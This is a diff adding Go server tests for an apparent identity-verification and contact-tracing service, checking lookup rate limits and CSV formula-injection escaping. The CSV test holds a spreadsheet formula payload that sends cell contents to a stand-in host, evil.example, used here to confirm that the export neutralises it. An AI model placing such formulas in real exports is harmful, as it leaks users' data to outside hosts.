@@ -1,0 +1,86 @@
+package server_test
+
+import (
+	"encoding/csv"
+	"strings"
+	"testing"
+	"time"
+)
+
+// A checkpoint key looks people up by identity number at a desk's pace; a
+// stolen one cannot walk the register. Refused input costs nothing.
+func TestIdentityLookupsAreRateLimited(t *testing.T) {
+	forEach(t, func(t *testing.T, e *env) {
+		e.resident("13900000601", "刘备查", rid("19700101", 601), "341881001")
+		checkpoint := func(name string) string {
+			return e.want(e.do("POST", "/api/v1/admin/checkpoints", e.admin(), map[string]any{"name": name, "region": "341881001"}), 201, "").str("api_key")
+		}
+		key, other := checkpoint("服务台"), checkpoint("另一服务台")
+		lookup := func(key, number string) resp {
+			return e.do("POST", "/api/v1/verify/id", key, map[string]any{"id_type": "resident_id", "id_number": number})
+		}
+		for range 30 {
+			e.want(lookup(key, "123"), 400, "")
+		}
+		// 20 at once, then one every 3 seconds; nobody found is a lookup too.
+		start := time.Now()
+		done := 0
+		for ; done < 60; done++ {
+			number := rid("19700101", 601)
+			if done%2 == 1 {
+				number = rid("19700101", 700+done)
+			}
+			r := lookup(key, number)
+			if r.status == 429 {
+				e.want(r, 429, "rate_limited")
+				break
+			}
+			if r.status != 200 && r.errCode() != "id_not_registered" {
+				t.Fatalf("lookup %d: %d %s", done, r.status, r.raw)
+			}
+		}
+		if refilled := int(time.Since(start)/(3*time.Second)) + 1; done < 20 || done > 20+refilled {
+			t.Fatalf("%d lookups before the limit in %v, want 20 and at most %d more", done, time.Since(start), refilled)
+		}
+		e.want(lookup(other, rid("19700101", 601)), 200, "")
+	})
+}
+
+// Names typed by someone reach operators' spreadsheets through the CSV
+// exports; one that starts like a formula is exported as text.
+func TestCSVExportsDoNotCarryFormulas(t *testing.T) {
+	forEach(t, func(t *testing.T, e *env) {
+		admin := e.admin()
+		formula := `=HYPERLINK("http://evil.example/?"&A1,"点我")`
+		_, venueTok := e.venue(admin, formula, "restaurant", "341881001")
+		caseTok, caseID := e.resident("13900000611", "-陈病例", rid("19750101", 611), "341881001")
+		compTok, _ := e.resident("13900000612", "@林同行", rid("19760101", 612), "341881001")
+		e.want(e.do("POST", "/api/v1/checkins", caseTok, map[string]any{"venue_token": venueTok}), 201, "")
+		e.want(e.do("POST", "/api/v1/checkins", compTok, map[string]any{"venue_token": venueTok}), 201, "")
+		run := e.want(e.do("POST", "/api/v1/admin/tracing", admin, map[string]any{"person_ids": []string{caseID}}), 202, "").str("id")
+		if done := e.waitRun(admin, run); done.body["companions"] != 1.0 {
+			t.Fatalf("run: %s", done.raw)
+		}
+		_, body := e.getAuth("/api/v1/admin/tracing/"+run+"/report.csv?lang=en", admin)
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\uFEFF"))).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("export: %v\n%s", err, body)
+		}
+		for i, col := range rows[0] {
+			if v := rows[1][i]; v != "" && strings.ContainsRune("=+-@", rune(v[0])) {
+				t.Errorf("column %s starts a formula: %q", col, v)
+			}
+		}
+		if !strings.Contains(string(body), "'"+strings.ReplaceAll(formula, `"`, `""`)) {
+			t.Fatalf("the venue's name is not kept as text:\n%s", body)
+		}
+
+		e.want(e.do("POST", "/api/v1/admin/sites", admin, map[string]any{"name": formula, "address": "+宁国市", "hours": "@全天",
+			"lat": 30.6, "lng": -118.9, "region": "341881001"}), 201, "")
+		_, body = e.get("/api/v1/sites?format=csv")
+		rows, err = csv.NewReader(strings.NewReader(string(body))).ReadAll()
+		if err != nil || len(rows) != 2 || rows[1][1] != "'"+formula || rows[1][2] != "'+宁国市" || rows[1][4] != "'@全天" || rows[1][6] != "-118.9" {
+			t.Fatalf("sites CSV: %v %q", err, rows)
+		}
+	})
+}
